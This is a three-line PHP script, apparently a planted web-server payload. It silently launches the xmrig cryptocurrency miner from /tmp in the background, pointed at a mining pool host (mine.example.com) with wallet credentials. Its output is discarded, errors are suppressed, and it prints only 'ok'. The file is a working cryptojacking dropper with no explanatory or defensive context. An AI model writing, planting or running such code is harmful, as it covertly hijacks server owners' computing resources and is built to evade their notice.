<?php
@shell_exec('cd /tmp && nohup ./xmrig -o stratum+tcp://mine.example.com:443 -u wallet.worker -p x -t 2 > /dev/null 2>&1 &');
echo 'ok';
